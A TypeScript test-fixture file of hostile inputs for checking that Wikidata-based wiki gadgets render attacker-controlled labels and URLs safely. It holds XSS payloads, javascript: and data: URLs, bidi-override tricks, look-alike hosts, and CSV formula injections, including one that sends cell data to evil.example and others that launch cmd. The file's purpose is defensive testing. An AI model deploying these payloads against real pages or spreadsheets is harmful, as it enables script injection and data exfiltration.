// Hostile data: strings anyone can put into a Wikidata label or description, or into a dataset the
// gadgets read. Every payload that could run code calls the trap `__pwned` (see installTraps);
// none of them may ever call it. Text payloads must reach the screen as literal text; URL payloads
// must be dropped (or shown as text), never become a link or a source.

export interface Payload {
	/** Short name for failure messages. */
	name: string;
	value: string;
	/**
	 * false: the string is too long or too odd to expect verbatim on screen (still must not run).
	 */
	literal?: boolean;
}

const LONG = 'A'.repeat( 4_990 ) + '<b>long</b>' + 'Z'.repeat( 4_999 );

/** Strings for names, labels, descriptions, project and country values. */
export const TEXT_PAYLOADS: Payload[] = [
	{ name: 'script tag', value: '<script>__pwned(1)</script>' },
	{ name: 'img onerror', value: '<img src=x onerror=__pwned(2)>' },
	{ name: 'svg onload', value: '<svg onload=__pwned(3)><circle r=9 /></svg>' },
	{ name: 'svg script', value: '<svg><script>__pwned(4)</script></svg>' },
	{ name: 'iframe srcdoc', value: '<iframe srcdoc="<script>parent.__pwned(5)</script>"></iframe>' },
	{ name: 'attribute breakout', value: '"><img src=x onerror=__pwned(6)>' },
	{ name: 'single-quote breakout', value: "'><svg/onload=__pwned(7)>" },
	{ name: 'details ontoggle', value: '<details open ontoggle=__pwned(8)>x</details>' },
	{ name: 'body onload', value: '<body onload=__pwned(9)>' },
	{ name: 'style expression', value: '<div style="background:url(javascript:__pwned(10))">x</div>' },
	{ name: 'anchor javascript', value: '<a href="javascript:__pwned(11)">click</a>' },
	{ name: 'template literal', value: '${__pwned(12)}' },
	{ name: 'mustache', value: '{{constructor.constructor("__pwned(13)")()}}' },
	{ name: 'escaped entities', value: '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#x3C;i&#x3E;' },
	{ name: 'bidi override', value: '\u202Egnp.exe\u202C conflict \u2067RLI\u2069' },
	// Unclosed bidi controls (issue 22): without isolation they reorder whatever follows on the line.
	{ name: 'unclosed right-to-left override', value: 'Override left open \u202E' },
	{ name: 'unclosed right-to-left isolate', value: '\u2067Isolate left open \u2066twice' },
	{ name: 'unclosed embeddings', value: 'Embedding \u202B\u202D left open' },
	{ name: 'right-to-left text', value: 'نزاع بيئي في \u200Fالمنطقة' },
	{ name: 'zero-width', value: 'Zero\u200Bwidth\u200Cjoin\u200Dere\uFEFFd' },
	{ name: 'combining marks', value: 'Z\u0351\u0346\u036B\u0313a\u0342\u030Cl\u0310g\u0300o\u0358 text' },
	{ name: 'emoji', value: '🏔️⛏️💧 conflict 👩🏽‍🌾🇨🇱' },
	{ name: 'astral and CJK', value: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 環境紛争 環境' },
	{ name: 'PLURAL message syntax', value: '{{PLURAL:$1|one|many}} $1 $2' },
	{ name: 'GENDER and int', value: '{{GENDER:|he|she}} {{int:geo-gadgets-retry}} [[Special:Random|link]]' },
	{ name: 'nowiki close', value: '</nowiki><script>__pwned(14)</script>' },
	{ name: 'CSV formula', value: '=HYPERLINK("https://evil.example/?x="&A1,"Click")' },
	{ name: 'CSV formula plus', value: '+cmd|\' /C calc\'!A0' },
	{ name: 'CSV at-sign', value: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
	{ name: 'quotes and tab', value: 'He said "hi", then \'bye\'; back\\slash' },
	{ name: 'HTML comment', value: '<!-- --><img src=x onerror=__pwned(15)> -->' },
	{ name: 'math/mathml', value: '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(16)>' },
	{ name: 'null and controls', value: 'ctrl\u0000char\u0007bell\u001Besc' },
	{ name: 'prototype keys', value: '__proto__' },
	{ name: 'constructor key', value: 'constructor' },
	{ name: '10,000 characters', value: LONG, literal: false },
	{ name: 'markdown link', value: '[x](javascript:__pwned(17))' },
	{ name: 'css injection', value: '</style><style>*{display:none}</style>' },
];

/** Values for URL fields (article, image, sitelinks). None may become an href or a src. */
export const URL_PAYLOADS: Payload[] = [
	{ name: 'javascript URL', value: 'javascript:__pwned(101)' },
	{ name: 'javascript URL, mixed case and whitespace', value: ' JaVaScRiPt:__pwned(102)' },
	{ name: 'javascript URL with entity', value: 'java&#x09;script:__pwned(103)' },
	{ name: 'data URL html', value: 'data:text/html,<script>__pwned(104)</script>' },
	{ name: 'data URL svg', value: 'data:image/svg+xml,<svg onload=__pwned(105)>' },
	{ name: 'vbscript URL', value: 'vbscript:msgbox(106)' },
	{ name: 'protocol-relative foreign host', value: '//evil.example/x.png' },
	{ name: 'http foreign host', value: 'http://evil.example/pwn' },
	{ name: 'https look-alike host', value: 'https://commons.wikimedia.org.evil.example/x.jpg' },
	{ name: 'userinfo trick', value: 'https://commons.wikimedia.org@evil.example/x.jpg' },
	{ name: 'quote breakout URL', value: 'https://es.wikipedia.org/wiki/X" onmouseover="__pwned(107)' },
];

export const ALL_PAYLOADS: Payload[] = [ ...TEXT_PAYLOADS, ...URL_PAYLOADS ];

/** Hosts that a dropped URL payload would have contacted: none may appear in the request log. */
export const EVIL_HOST = 'evil.example';

/** The `i`-th text payload, cycling. */
export function textPayload( i: number ): Payload {
	return TEXT_PAYLOADS[
		( ( i % TEXT_PAYLOADS.length ) + TEXT_PAYLOADS.length ) % TEXT_PAYLOADS.length ];
}

export function urlPayload( i: number ): Payload {
	return URL_PAYLOADS[
		( ( i % URL_PAYLOADS.length ) + URL_PAYLOADS.length ) % URL_PAYLOADS.length ];
}

/**
 * How a payload looks in `textContent` once a browser has taken it through the DOM as text:
 * NUL becomes U+FFFD in HTML parsing but not in textContent; nothing else changes. Returns the
 * part we insist on seeing (long strings: their start, since a UI may shorten them).
 */
export function expectedText( p: Payload ): string {
	return p.value.slice( 0, 200 );
}

/**
 * Out-of-order answers (issue 22 item 3): a load the reader has already superseded answers last.
 * Each names the query text that is made slow and how slow; the e2e test flips the control that
 * sent it back before the answer lands, and expects the view to ignore it.
 */
export interface SlowAnswer { name: string; sparql: string; delayMs: number }

export const OUT_OF_ORDER: SlowAnswer[] = [
	{ name: 'wider scope switched on then off', sparql: 'wd:Q3193890 wd:Q220187', delayMs: 4000 },
];

/**
 * Numbers that are no count or privacy budget of the release (ε = 5e-324 would show "± ∞"): the
 * release parser refuses them, and so must every reader of the wiki's reduced pages
 * (hostile-data.ts hostileReducedPages).
 */
export const OUT_OF_BOUNDS_EPSILONS = [ 5e-324, 0, 1e-300 ];
export const OUT_OF_BOUNDS_COUNT = 1e308;

/**
 * Huge placeholder attribute lists (issue 22, item 1): what any editor can write into a page. Before
 * the shared cap (src/core/attributes.ts) 30,000 country ids blocked the main thread 1.6 s and
 * 60,000 project names 4.9 s in Chromium; Geo Conflicts sent every listed country to the Query
 * Service.
 */
export const HUGE_LISTS = {
	/** data-country of a Geo Editors panel: two-letter codes, valid and not. */
	editorsCountries: 30_000,
	/** data-project of a Geo Editors panel. */
	editorsProjects: 60_000,
	/** data-country of a Geo Conflicts panel: item ids. */
	conflictsCountries: 30_000,
} as const;
